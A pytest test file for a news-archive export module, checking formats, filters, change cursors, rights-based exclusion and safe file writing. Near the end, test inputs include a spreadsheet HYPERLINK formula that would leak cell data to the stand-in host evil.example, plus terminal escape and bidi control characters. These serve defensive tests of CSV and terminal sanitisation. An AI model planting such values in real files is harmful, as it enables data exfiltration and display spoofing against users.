"""Exports: every format has the rows of the views, files are complete, and changes add up to the whole."""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest
import zstandard
from sqlalchemy import Engine, insert

from pipeline.document import RightsStatement
from pipeline.errors import OperatorError
from pipeline.metadata import joined_rights
from storage import export as exports
from storage import reader, schema, writer
from storage.crawls import site_runs
from storage.crawls.site_runs import SiteCounts, Tally
from storage.export import Selection, export, file_format, read_cursor, write_cursor
from storage.reader import article_rows
from storage.schema import VIEWS, View
from tests.conftest import Fill
from tests.storage.news import SETTINGS, START, article, rejection, store, story, view, wire
from tests.storage.reader.test_change_rows import change

ARROW = {
    "integer": "int64",
    "real": "double",
    "text": "string",
    "time": "timestamp[ms, tz=UTC]",
    "boolean": "bool",
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An empty folder for exports."""
    (tmp_path / "exports").mkdir()
    return tmp_path / "exports"


def fill(engine: Engine) -> None:
    """A database with rows in every view, and a removed article."""
    bare = article("file:///saved/page.html", story(77), publisher=None, published_at=None, language=None)
    names = article("https://a.example/n", story(78), title='Say "a, b"\nagain', authors=("Ö. Ås", "B"))
    store(engine, [*wire(20), bare, names, rejection("list.html"), rejection("x.bin", url=None, page=None)])
    writer.remove_articles(engine, [2], SETTINGS)
    counts = {"a.example": SiteCounts(discovered=3, seconds=1.5), "b.example": SiteCounts()}
    site_runs.put_counts(engine, 1, Tally(), counts)
    alert = {"figure": "words", "was": 410.0, "now": 61.5, "message": "61 words, 410 before"}
    site_runs.put_alerts(engine, 1, {"a.example": [alert]})


@pytest.fixture
def filled(filled_by: Callable[[Fill], Engine]) -> Engine:
    return filled_by(fill)


def read(path: Path) -> list[dict[str, Any]]:
    """The rows of an export, as plain values."""
    if path.suffix == ".parquet":
        return [
            {name: dict(v) if name == "reasons" else v for name, v in row.items()}
            for row in pyarrow.parquet.read_table(path).to_pylist()
        ]
    data = path.read_bytes()
    if path.suffix == ".gz":
        data = gzip.decompress(data)
    if path.suffix == ".zst":
        data = zstandard.ZstdDecompressor().stream_reader(io.BytesIO(data)).read()
    if ".jsonl" in path.name:
        return [json.loads(line) for line in data.decode().splitlines()]
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def as_json(row: dict[str, Any]) -> dict[str, Any]:
    return {
        name: schema.utc_text(value) if isinstance(value, datetime) else value for name, value in row.items()
    }


def test_parquet_has_the_types_of_the_views(filled: Engine, folder: Path) -> None:
    for view_ in VIEWS:
        path = folder / f"{view_.name}.parquet"
        export(filled, path, Selection(view_.name))

        check_types(path, view_)
        rows = read(path)
        assert sorted(rows, key=repr) == [dict(row) for row in view(filled, view_.name)]
        assert rows


JSON = {
    "authors": "list<element: string>",
    "keywords": "list<element: string>",
    "rights": "list<element: struct<name: string, value: string, source: string, agent: string,"
    " reserved: bool>>",
    "reasons": "map<string, int64 ('reasons')>",
    "alerts": "list<element: struct<figure: string, was: double, now: double, message: string>>",
}


def check_types(path: Path, view_: View) -> None:
    found = pyarrow.parquet.read_schema(path)
    assert found.names == [column.name for column in view_.columns]
    for column, field in zip(view_.columns, found, strict=True):
        if column.type == "json":
            assert str(field.type) == JSON[column.name]
        else:
            assert str(field.type) == ARROW[column.type]
        assert field.nullable == (not column.null.startswith("never")), column.name
        assert field.metadata[b"description"].decode() == column.meaning
    assert {c.compression for c in _chunks(path)} == {"ZSTD"}


def _chunks(path: Path) -> list[Any]:
    metadata = pyarrow.parquet.ParquetFile(path).metadata
    return [
        metadata.row_group(group).column(column)
        for group in range(metadata.num_row_groups)
        for column in range(metadata.num_columns)
    ]


def test_the_formats_have_the_same_rows(filled: Engine, folder: Path) -> None:
    for view_ in VIEWS:
        check_formats(filled, folder, view_)


def check_formats(filled: Engine, folder: Path, view_: View) -> None:
    found = {}
    for suffix in ("parquet", "jsonl", "jsonl.gz", "jsonl.zst", "csv", "csv.gz", "csv.zst"):
        path = folder / f"a.{suffix}"
        done = export(filled, path, Selection(view_.name))
        found[suffix] = read(path)
        assert (done.rows, done.gone, done.change) == (len(found[suffix]), 0, None)

    assert found["jsonl"] == [as_json(row) for row in found["parquet"]]
    assert found["jsonl.gz"] == found["jsonl.zst"] == found["jsonl"]
    assert found["csv.gz"] == found["csv.zst"] == found["csv"]
    for from_csv, row in zip(found["csv"], found["jsonl"], strict=True):
        assert list(from_csv) == list(row)
        for name, value in row.items():
            if value is None:
                assert from_csv[name] == ""
            elif isinstance(value, str):
                assert from_csv[name] == value
            else:
                assert json.loads(from_csv[name]) == value


def test_filters_choose_rows(filled: Engine, folder: Path) -> None:
    def ids(selection: Selection, **more: Any) -> list[int]:
        path = folder / "a.jsonl"
        export(filled, path, selection, **more)
        return [row["id"] for row in read(path)]

    every = {row["id"]: row for row in view(filled, "articles")}
    assert ids(Selection()) == sorted(every)
    assert ids(Selection(unique=True)) == ids(Selection("unique_articles"))
    assert ids(Selection(unique=True)) == sorted(id for id, row in every.items() if row["is_canonical"])
    assert ids(Selection(sites=("site3.example",))) == sorted(
        id for id, row in every.items() if row["site"] == "site3.example"
    )
    assert ids(Selection(language="en", unique=True)) == sorted(
        id for id, row in every.items() if row["is_canonical"] and row["language"] == "en"
    )
    since = START.replace(microsecond=0) + timedelta(hours=40)
    assert ids(Selection(), since=since) == sorted(
        id for id, row in every.items() if row["updated_at"] >= since
    )


def test_changes_are_exported_by_number_and_by_date(filled: Engine, folder: Path) -> None:
    path = folder / "a.jsonl"
    last = reader.last_change(filled)

    done = export(filled, path, Selection("changes"), after=last - 3)
    assert [row["change"] for row in read(path)] == [last - 2, last - 1, last][-done.rows :]
    assert done.change == last
    assert done.rows
    export(filled, path, Selection("changes"), since=datetime.now(UTC) + timedelta(days=1))
    assert read(path) == []
    export(filled, path, Selection("changes"), since=datetime.now(UTC) - timedelta(days=1))
    assert len(read(path)) == len(list(reader.changes(filled)))


def test_a_first_export_of_changes_has_no_removed_articles(filled: Engine, folder: Path) -> None:
    path = folder / "a.jsonl"
    writer.remove_articles(filled, [5], SETTINGS)  # the last change of all

    done = export(filled, path, after=0)

    assert {row["gone"] for row in read(path)} == {False}
    assert (done.rows, done.change) == (len(view(filled, "articles")), reader.last_change(filled))


def test_removed_articles_are_marked_in_every_format(filled: Engine, folder: Path) -> None:
    after = reader.last_change(filled)
    writer.remove_articles(filled, [22], SETTINGS)
    store(filled, [article("https://a.example/new", story(90))])
    new = max(row["id"] for row in view(filled, "articles"))

    for suffix in ("jsonl", "csv", "parquet"):
        done = export(filled, folder / f"a.{suffix}", after=after)
        assert (done.rows, done.gone, done.change) == (2, 1, after + 2)
    assert read(folder / "a.jsonl")[0] == {"id": 22, "change": after + 1, "gone": True}
    gone, stored = read(folder / "a.parquet")
    assert [gone["id"], gone["change"], gone["gone"], gone["text"]] == [22, after + 1, True, None]
    assert [stored["id"], stored["gone"], stored["text"]] == [new, False, story(90)]
    gone, stored = read(folder / "a.csv")
    assert [gone["id"], gone["gone"], gone["text"]] == ["22", "true", ""]
    assert [stored["id"], stored["gone"], stored["text"]] == [str(new), "false", story(90)]


@pytest.mark.parametrize("selection", [Selection(), Selection(unique=True), Selection(sites=("b.example",))])
def test_exports_of_changes_add_up(engine: Engine, folder: Path, selection: Selection) -> None:
    chance = random.Random(7)
    texts = [story(n) for n in range(5)]
    cursor = folder / "cursor"
    kept: dict[int, dict[str, Any]] = {}
    for step in range(13):
        change(engine, chance, texts, step, "ab")
        if step % 3 == 0:
            path = folder / f"{step}.{chance.choice(['jsonl.gz', 'parquet'])}"
            done = export(engine, path, selection, after=read_cursor(cursor, engine, selection))
            assert done.change is not None
            write_cursor(cursor, engine, selection, done.change)
            for row in read(path):
                del row["change"]
                if row.pop("gone"):
                    kept.pop(row["id"], None)
                else:
                    kept[row["id"]] = as_json(row)

    export(engine, folder / "all.jsonl", selection)
    assert sorted(kept.values(), key=lambda row: int(row["id"])) == read(folder / "all.jsonl")


@pytest.fixture
def reserved(engine: Engine) -> Engine:
    """Articles of which nothing is said, of which something is, and of which one statement reserves a use."""
    said = {
        "nothing": None,
        "allowed": [("tdm-reservation", "0", None)],
        "licensed": [("license", "https://a.example/license.xml", None), ("robots", "noimageai", None)],
        "of another": [("robots", "noai", "gptbot")],
        "reserved": [("tdm-policy", "https://a.example/tdm.json", None), ("tdm-reservation", "1", None)],
        "signalled": [("content-signal", "search=yes, ai-train=no", None)],
    }
    for number, (title, statements) in enumerate(said.items()):
        rights = joined_rights(RightsStatement(n, v, "header", a) for n, v, a in statements or ())
        url = f"https://a.example/{number}"
        store(engine, [article(url, story(number), title=title, language="en", rights=rights)])
    return engine


def titles(engine: Engine, folder: Path, selection: Selection, **how: Any) -> list[str | None]:
    export(engine, folder / "a.jsonl", selection, **how)
    return [row.get("title") for row in read(folder / "a.jsonl")]


@pytest.mark.parametrize("chosen", [{}, {"language": "en"}, {"unique": True}, {"view": "unique_articles"}])
def test_articles_whose_rights_are_reserved_can_be_left_out(
    reserved: Engine, folder: Path, chosen: dict[str, Any]
) -> None:
    assert len(titles(reserved, folder, Selection(**chosen))) == 6
    kept = titles(reserved, folder, Selection(**chosen, exclude_reserved=True))
    assert kept == ["nothing", "allowed", "licensed", "of another"]
    assert [
        one.title for one in reader.articles(reserved, reader.ArticleFilter(exclude_reserved=True))
    ] == kept


def test_what_is_reserved_later_is_gone_from_a_copy(reserved: Engine, folder: Path) -> None:
    choice = Selection(exclude_reserved=True)
    assert titles(reserved, folder, choice, after=0) == ["nothing", "allowed", "licensed", "of another"]
    after = reader.last_change(reserved)
    rights = joined_rights([RightsStatement("tdm-reservation", "1", "tdmrep.json")])
    again = article("https://a.example/0", story(0), title="nothing", rights=rights, rules_version="newer")
    store(reserved, [again])
    export(reserved, folder / "b.jsonl", choice, after=after)
    (row,) = read(folder / "b.jsonl")
    assert (row["id"], row["gone"]) == (1, True)


def test_only_articles_have_rights(filled: Engine, folder: Path) -> None:
    with pytest.raises(OperatorError, match="--exclude-reserved are for articles, not for runs"):
        Selection("runs", exclude_reserved=True)
    with pytest.raises(ValueError, match="no filters of articles"):
        reader.rows(filled, "copies", reader.ArticleFilter(exclude_reserved=True))


def test_a_cursor_of_an_earlier_release_goes_on(filled: Engine, folder: Path) -> None:
    path = folder / "cursor"
    write_cursor(path, filled, Selection(), 5)
    kept = json.loads(path.read_text())
    del kept["selection"]["exclude_reserved"]
    path.write_text(json.dumps(kept))
    assert read_cursor(path, filled, Selection()) == 5
    with pytest.raises(OperatorError, match="another export"):
        read_cursor(path, filled, Selection(exclude_reserved=True))


def test_a_cursor_belongs_to_one_database_and_one_selection(
    filled: Engine, folder: Path, sqlite_template: Path
) -> None:
    path = folder / "cursor"
    german = Selection(language="de")
    assert read_cursor(path, filled, german) == 0
    write_cursor(path, filled, german, 5)
    assert read_cursor(path, filled, german) == 5

    with pytest.raises(OperatorError, match=r"another export \(view=articles language=de\)"):
        read_cursor(path, filled, Selection())
    kept = json.loads(path.read_text())
    path.write_text(json.dumps({**kept, "base": kept["base"] + 1}))
    with pytest.raises(OperatorError, match="another database"):
        read_cursor(path, filled, german)
    for broken in ("", "{}", "[]", "5", "\udcff"):
        path.write_bytes(broken.encode("utf-8", "surrogateescape"))
        with pytest.raises(OperatorError, match="not a cursor"):
            read_cursor(path, filled, german)
    with pytest.raises(OperatorError, match="is still to come"):
        export(filled, folder / "a.jsonl", german, after=10_000)


def test_selections_that_make_no_sense_are_refused(filled: Engine, folder: Path) -> None:
    for wrong in ({"view": "bands"}, {"view": "copies", "sites": ("a",)}, {"view": "runs", "unique": True}):
        with pytest.raises(OperatorError):
            Selection(**wrong)
    with pytest.raises(OperatorError, match="not for copies"):
        export(filled, folder / "a.csv", Selection("copies"), after=3)


@pytest.mark.parametrize("name", ["a", "a.xml", "a.parquet.gz", "a.jsonl.bz2", ".gz", "jsonl"])
def test_a_file_name_without_a_format_is_refused(name: str) -> None:
    with pytest.raises(OperatorError, match="must end in"):
        file_format(Path(name))


def test_a_file_is_replaced_whole_or_not_at_all(
    filled: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = folder / "a.jsonl"
    path.write_text("before")

    rows = list(reader.rows(filled, "articles"))

    def fails(*_: Any, **__: Any) -> Iterator[dict[str, Any]]:
        yield from rows[:3]
        raise RuntimeError("the power is out")

    with monkeypatch.context() as patch:
        patch.setattr(reader, "rows", fails)
        with pytest.raises(RuntimeError, match="the power is out"):
            export(filled, path)

    assert path.read_text() == "before"
    assert [p.name for p in folder.iterdir()] == ["a.jsonl"]
    export(filled, path)
    assert len(read(path)) == len(view(filled, "articles"))
    assert [p.name for p in folder.iterdir()] == ["a.jsonl"]


def test_a_link_stays_a_link(filled: Engine, folder: Path) -> None:
    (folder / "real").mkdir()
    link = folder / "a.csv"
    link.symlink_to(folder / "real" / "b.csv")

    export(filled, link)

    assert link.is_symlink()
    assert read(folder / "real" / "b.csv")


def test_a_path_that_cannot_be_written_is_reported(filled: Engine, folder: Path) -> None:
    (folder / "folder.csv").mkdir()
    with pytest.raises(OperatorError, match="no such folder"):
        export(filled, folder / "none" / "a.csv")
    with pytest.raises(OperatorError, match="is a folder"):
        export(filled, folder / "folder.csv")
    assert [p.name for p in folder.iterdir()] == ["folder.csv"]


def test_without_pyarrow_it_says_how_to_get_it(
    filled: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(OperatorError, match=r"pip install 'copydesk\[parquet\]'"):
        export(filled, folder / "a.parquet")
    assert list(folder.iterdir()) == []
    export(filled, folder / "a.jsonl")


def test_row_groups_are_bounded_by_rows_and_by_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "_GROUP_ROWS", 4)
    monkeypatch.setattr(exports, "_GROUP_CHARACTERS", 10)
    lengths = [3, 3, 3, 3, 12, 1, 1, 1, 1, 1, 9, 2]
    rows = [{"n": n, "text": "x" * length, "none": None} for n, length in enumerate(lengths)]

    iterator = iter(rows)
    parts = list(iter(lambda: exports._row_group(iterator), []))

    assert [row for part in parts for row in part] == rows
    assert [[len(row["text"]) for row in part] for part in parts] == [
        [3, 3, 3, 3],
        [12],
        [1, 1, 1, 1],
        [1, 9],
        [2],
    ]


def test_an_export_of_any_size_takes_the_same_memory(
    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In memory are the texts of one fetch (ten here) and of one row group (2 MB here), of 20 MB in all."""
    monkeypatch.setattr(article_rows, "FETCH_TEXTS", 10)
    monkeypatch.setattr(exports, "_GROUP_CHARACTERS", 2_000_000)
    count, size = 200, 100_000
    row = {
        **{"site": "a.example", "is_canonical": True, "revision": 1, "text_hash": b"", "fetched_us": 0},
        **{"first_seen_at": START, "updated_at": START, "seen_at": START, "location": "a", "title": "T"},
        **{"authors": [], "access": "free", "word_count": 1, "rules_version": "1", "language": "en"},
    }
    with engine.begin() as connection:
        for id in range(1, count + 1):
            values = {**row, "id": id, "url": f"https://a.example/{id}", "group_id": id}
            values["text"] = f"{id} " + "word " * (size // 5)
            connection.execute(insert(schema.article).values(values))
    for name, after, selection in (
        ("a.parquet", None, Selection()),
        ("a.jsonl.zst", 0, Selection()),
        ("b.jsonl.zst", None, Selection(language="en")),
    ):
        export(engine, folder / name, selection, after=after)  # so that what is imported is
        tracemalloc.start()
        done = export(engine, folder / name, selection, after=after)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert done.rows == count
        assert peak < count * size / 3


# What a spreadsheet would run, what it would not, and what only looks alike.
CELLS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Ferry")': "'=",
    "+49 30 1234": "'+",
    "-2+3": "'-",
    "@SUM(A1)": "'@",
    "\tferry": "'\t",
    "＝1+1": "'＝",
    "'=1+1": "''=",
    "'Tis the season": "'Tis",
    "Ferry = late": "Ferry",
}


def test_a_spreadsheet_runs_no_cell(engine: Engine, folder: Path) -> None:
    named = {title: f"https://a.example/{n}" for n, title in enumerate(CELLS)}
    store(engine, [replace(article(url, story(n)), title=t) for n, (t, url) in enumerate(named.items())])
    plain, raw = folder / "plain.csv", folder / "raw.csv"
    export(engine, plain)
    export(engine, raw, raw=True)

    shown = {row["url"]: row["title"] for row in read(plain)}
    for title, start in CELLS.items():
        assert shown[named[title]].startswith(start)
        is_defused = start[0] == "'" and start != "'Tis"
        assert shown[named[title]][is_defused:] == title
    assert {row["title"] for row in read(raw)} == set(CELLS)
    assert all(row["id"].isdecimal() for row in read(plain)), "numbers are as they are"


def test_a_terminal_obeys_nothing_of_a_stream(engine: Engine) -> None:
    title = "Ferry\x1b[31m\x9b\u202e\u2028\x7f runs"
    store(engine, [replace(article("https://a.example/1", story(1)), title=title)])
    for format in ("jsonl", "csv"):
        stream, raw = io.BytesIO(), io.BytesIO()
        export(engine, stream, format=format, for_terminal=True)
        export(engine, raw, format=format)
        said = stream.getvalue().decode()
        assert not any(c in said for c in "\x1b\x9b\u202e\u2028\x7f")
        assert "\u202e" in raw.getvalue().decode()
        if format == "jsonl":
            assert json.loads(said) == json.loads(raw.getvalue())
        else:
            assert "Ferry\ufffd[31m" in said
